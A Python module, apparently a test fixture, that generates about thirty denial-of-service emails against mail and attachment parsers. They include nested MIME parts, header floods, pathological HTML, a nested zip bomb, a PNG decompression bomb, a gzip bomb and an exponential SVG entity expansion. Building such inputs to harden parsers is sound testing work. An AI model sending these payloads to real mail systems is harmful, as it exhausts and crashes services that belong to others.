"""Thirty mails that are made to cost whoever reads them: each a few kilobytes or megabytes, none with anything to say."""

from __future__ import annotations

import base64
import gzip
import io
import quopri
import struct
import zipfile
import zlib
from collections.abc import Callable

HEAD = b"From: Mallory <mallory@evil.example>\r\nTo: support@desk.example\r\nSubject: %s\r\nMessage-ID: <%s@evil.example>\r\nMIME-Version: 1.0\r\n"


def _head(name: str) -> bytes:
    word = name.replace(" ", "-").encode()
    return HEAD % (word, word)


def _mail(name: str, kind: str, body: bytes, extra: bytes = b"") -> bytes:
    return _head(name) + extra + f"Content-Type: {kind}\r\n".encode() + b"\r\n" + body


def _html(name: str, body: str) -> bytes:
    return _mail(name, "text/html; charset=utf-8", body.encode())


def _plain(name: str, body: str) -> bytes:
    return _mail(name, "text/plain; charset=utf-8", body.encode())


def _file(name: str, kind: str, content: bytes, file: str) -> bytes:
    extra = b"Content-Transfer-Encoding: base64\r\nContent-Disposition: attachment; filename=" + file.encode() + b"\r\n"
    return _mail(name, kind, base64.encodebytes(content), extra)


def _nested(depth: int) -> bytes:
    body = b"Content-Type: text/plain\r\n\r\nthe end\r\n"
    for number in range(depth):
        mark = b"b%d" % number
        body = (
            b'Content-Type: multipart/mixed; boundary="'
            + mark
            + b'"\r\n\r\n--'
            + mark
            + b"\r\n"
            + body
            + b"\r\n--"
            + mark
            + b"--\r\n"
        )
    return _head("nested parts") + body


def _letters_in_letters(depth: int) -> bytes:
    body = b"Subject: the end\r\n\r\nnothing"
    for _ in range(depth):
        body = b"Content-Type: message/rfc822\r\n\r\n" + body
    return _head("letters in letters") + body


def _many_parts(count: int) -> bytes:
    return _mail("many parts", 'multipart/mixed; boundary="x"', b"--x\r\n\r\n.\r\n" * count + b"--x--\r\n")


def _zip(levels: int) -> bytes:
    content = b"0" * (10 << 20)
    for number in range(levels):
        packed = io.BytesIO()
        with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as one:
            for copy in range(4):
                one.writestr(f"{number}-{copy}", content)
        content = packed.getvalue()
    return content


def _png(side: int) -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    rows = zlib.compress(b"\0" * (side // 8 + 1) * 2_000, 9)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0))
        + chunk(b"IDAT", rows)
        + chunk(b"IEND", b"")
    )


def _continued(count: int) -> bytes:
    pieces = "".join(f";\r\n name*{number}*=a%20b" for number in range(count))
    return _head("continued name") + f"Content-Type: application/octet-stream{pieces}\r\n\r\nx".encode()


BOMBS: dict[str, Callable[[], bytes]] = {
    "nested parts": lambda: _nested(900),
    "letters in letters": lambda: _letters_in_letters(3_000),
    "many parts": lambda: _many_parts(100_000),
    "many headers": lambda: _head("many headers") + b"X-A: b\r\n" * 100_000 + b"\r\nx",
    "one long header": lambda: _head("one long header") + b"X-Long: " + b"a" * (8 << 20) + b"\r\n\r\nx",
    "long folded header": lambda: _head("long folded header") + b"X-Fold: a" + b"\r\n a" * 400_000 + b"\r\n\r\nx",
    "encoded words": lambda: _head("encoded words") + b"X-Words: " + b" ".join([b"=?utf-8?q?=41?="] * 900) + b"\r\nComments: " + b"=?utf-8?b?QUFB?= " * 900 + b"\r\n\r\nx",
    "many recipients": lambda: _head("many recipients") + b"Cc: " + b", ".join(b"a%d@b.example" % n for n in range(100_000)) + b"\r\n\r\nx",
    "long references": lambda: _head("long references") + b"References: " + b" ".join(b"<%d@x>" % n for n in range(100_000)) + b"\r\n\r\nx",
    "comments in comments": lambda: b"From: " + b"(" * 5_000 + b")" * 5_000 + b" a@evil.example\r\n" + _head("comments in comments")[37:] + b"\r\nx",
    "quotes in addresses": lambda: _head("quotes in addresses") + b"Reply-To: " + b'"\\"' * 5_000 + b"@x\r\n\r\nx",
    "continued name": lambda: _continued(4_000),
    "html depth": lambda: _html("html depth", "<div>" * 100_000),
    "html siblings": lambda: _html("html siblings", "<b>x</b>" * 120_000),
    "html tables": lambda: _html("html tables", "<table><tr><td>" * 20_000),
    "html formatting": lambda: _html("html formatting", "<a><b><i><u><font>" * 8_000 + "</a></p>" * 8_000),
    "html attributes": lambda: _html("html attributes", "<p " + " ".join(f"a{n}='b'" for n in range(100_000)) + ">x"),
    "html unclosed": lambda: _html("html unclosed", "<" * 900_000),
    "html entities": lambda: _html("html entities", "&amp;" * 200_000),
    "html comments": lambda: _html("html comments", "<!--" * 200_000),
    "css": lambda: _html("css", "<style>" + "a{b:c}" * 150_000 + "</style><p style='" + "x:y;" * 100_000 + "'>"),
    "word html": lambda: _html("word html", "<!--[if gte mso 9]><xml>" + "<w:LsdException Locked='false'/>" * 15_000 + "</xml><![endif]-->" + "<o:p>&nbsp;</o:p>" * 20_000),
    "empty lines": lambda: _plain("empty lines", "\n" * 1_000_000),
    "quote marks": lambda: _plain("quote marks", "> " * 500_000),
    "who wrote": lambda: _plain("who wrote", "On x " * 200_000 + "wrote:"),
    "dashes": lambda: _plain("dashes", "-" * 1_000_000 + "\n" + "-- \n" * 100_000),
    "uuencoded": lambda: _plain("uuencoded", "begin 644 a\n" * 50_000 + "M" + "!" * 500_000),
    "quoted printable": lambda: _mail("quoted printable", "text/plain; charset=utf-16", quopri.encodestring(b"\xff\xfe" * 600_000), b"Content-Transfer-Encoding: quoted-printable\r\n"),
    "zip in zip": lambda: _file("zip in zip", "application/zip", _zip(3), "a.zip"),
    "picture": lambda: _file("picture", "image/png", _png(60_000), "a.png"),
    "gzip as text": lambda: _file("gzip as text", "text/plain; charset=utf-7", gzip.compress(b"a" * (200 << 20)), "a.txt"),
    "svg entities": lambda: _file("svg entities", "image/svg+xml", b"<!DOCTYPE s [<!ENTITY a 'ha'>" + b"".join(b"<!ENTITY a%d '&a%d;&a%d;'>" % (n + 1, n, n) for n in range(60)) + b"]><svg>&a60;</svg>", "a.svg"),
}  # fmt: skip
